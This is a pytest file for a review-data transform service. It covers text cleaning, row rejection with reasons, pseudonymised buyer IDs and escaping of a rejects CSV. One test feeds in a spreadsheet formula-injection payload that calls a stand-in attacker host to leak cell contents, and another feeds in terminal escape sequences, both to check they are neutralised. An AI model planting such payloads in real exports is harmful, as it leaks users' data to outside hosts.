"""Transform: cleaning, validation with reasons, features, pseudonyms (plain functions)."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime

import pyarrow as pa
import pytest

from services.transformer.transform import clean_text, rejects_csv, transform
from shared.pseudonym import pseudonym
from shared.schemas import CLEANED, RAW

NOW = datetime(2026, 11, 22, tzinfo=UTC)


def raw_row(review_id: int, **overrides) -> dict:
    row = dict(
        review_id=review_id,
        product_id="B000TEST",
        buyer_id=f"A{review_id}BUYER",
        rating=5,
        title="Nice",
        text="Works well.",
        helpful_votes=1,
        total_votes=2,
        verified_purchase=True,
        reviewed_at=datetime(2014, 3, 1, tzinfo=UTC),
        product_title="A product",
        product_brand="Brand",
        product_category="Music",
        product_known=True,
    )
    row.update(overrides)
    return row


def run(rows: list[dict]):
    return transform(pa.Table.from_pylist(rows, schema=RAW), b"test-key", NOW)


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        ("Tom &amp; Jerry", "Tom & Jerry"),
        ("double &amp;quot;escaped&amp;quot;", 'double "escaped"'),
        ("<p>Great <b>sound</b></p><br/>really", "Great sound really"),
        ("zero\u200bwidth and\u00a0nbsp", "zerowidth and nbsp"),
        ("  many\n\n  spaces\t here ", "many spaces here"),
        ("ﬁne ligature", "fine ligature"),
        (None, ""),
    ],
)
def test_clean_text(raw, clean):
    assert clean_text(raw) == clean


def test_each_rejected_row_has_its_reason_and_the_rest_pass():
    result = run(
        [
            raw_row(1),
            raw_row(1, text="same id again"),
            raw_row(2, rating=0),
            raw_row(3, rating=None),
            raw_row(4, text="<br/>  &nbsp; "),
            raw_row(5, product_known=False),
            raw_row(6, reviewed_at=datetime(1990, 1, 1, tzinfo=UTC)),
            raw_row(7, reviewed_at=datetime(2030, 1, 1, tzinfo=UTC)),
            raw_row(8, buyer_id=""),
            raw_row(9, text="A fine review &amp; more."),
        ]
    )
    reasons = dict(zip(result.rejects["review_id"], result.rejects["reason"], strict=True))
    assert reasons == {
        1: "duplicate review_id",
        2: "rating not in 1..5",
        3: "rating not in 1..5",
        4: "empty text",
        5: "unknown product",
        6: "timestamp outside 1995-01-01..now",
        7: "timestamp outside 1995-01-01..now",
        8: "missing buyer",
    }
    assert result.cleaned.column("review_id").to_pylist() == [1, 9]
    assert result.cleaned.num_rows + len(result.rejects) == 10


def test_features_and_schema():
    result = run([raw_row(1, text="one two  three &amp; four", helpful_votes=None)])
    row = result.cleaned.to_pylist()[0]
    assert result.cleaned.schema == CLEANED
    assert row["text"] == "one two three & four"
    assert (row["text_length"], row["word_count"], row["helpful_votes"]) == (20, 5, 0)
    assert row["age_days"] == pytest.approx((NOW - datetime(2014, 3, 1, tzinfo=UTC)).days)


def test_no_buyer_id_goes_downstream():
    result = run([raw_row(1), raw_row(2, rating=9)])
    assert "buyer_id" not in result.cleaned.schema.names
    assert "buyer_id" not in result.rejects.columns
    text = result.cleaned.to_pandas().to_csv() + result.rejects.to_csv()
    assert "A1BUYER" not in text and "A2BUYER" not in text
    assert result.cleaned.column("buyer_pseudonym")[0].as_py() == pseudonym("A1BUYER", b"test-key")


def test_ids_and_categories_from_the_source_are_held_to_the_loaders_limits():
    result = run(
        [
            raw_row(1, product_id="P" * 64, buyer_id="B" * 64, product_category="C" * 200),
            raw_row(2, product_id="P" * 65),
            raw_row(3, product_id="B000\x00NUL"),
            raw_row(4, buyer_id="A4\tBUYER"),
            raw_row(5, buyer_id="B" * 65),
            raw_row(6, product_category="Music\x1b"),
            raw_row(7, product_category="C" * 201),
        ]
    )
    reasons = dict(zip(result.rejects["review_id"], result.rejects["reason"], strict=True))
    assert reasons == {
        2: "product id is 65 characters, over the limit of 64",
        3: "product id holds U+0000, a control character",
        4: "buyer id holds U+0009, a control character",
        5: "buyer id is 65 characters, over the limit of 64",
        6: "category holds U+001B, a control character",
        7: "category is 201 characters, over the limit of 200",
    }
    assert result.cleaned.column("review_id").to_pylist() == [1]


def test_rejects_csv_cells_cannot_run_as_formulas():
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    result = run([raw_row(1, rating=0, title="-1 star", text=formula), raw_row(2, rating=9, text="@SUM(A1)")])
    rows = list(csv.DictReader(io.StringIO(rejects_csv(result.rejects).decode())))
    assert [(r["text"], r["title"], r["rating"]) for r in rows] == [
        ("'" + formula, "'-1 star", "0"),
        ("'@SUM(A1)", "Nice", "9"),
    ]


def test_a_rejected_id_with_control_characters_is_shown_escaped_in_the_rejects_file():
    # given ids a terminal or spreadsheet would act on (NUL, escape, a bell, a line break) and one with a backslash
    result = run([raw_row(1, product_id="B0\x00\x1b[2J\x07\nX"), raw_row(2, product_id="=B0\\\x85")])
    data = rejects_csv(result.rejects).decode()
    # then the file holds none of them raw (its own line ends aside), and each id reads as what came
    assert not re.search(r"[\x00-\x09\x0b\x0c\x0e-\x1f\x7f-\x9f]", data)
    rows = list(csv.DictReader(io.StringIO(data)))
    assert [r["product_id"] for r in rows] == ["B0\\x00\\x1b[2J\\x07\\x0aX", "'=B0\\\\\\x85"]
    assert [r["reason"] for r in rows] == [f"product id holds U+{c}, a control character" for c in ("0000", "0085")]
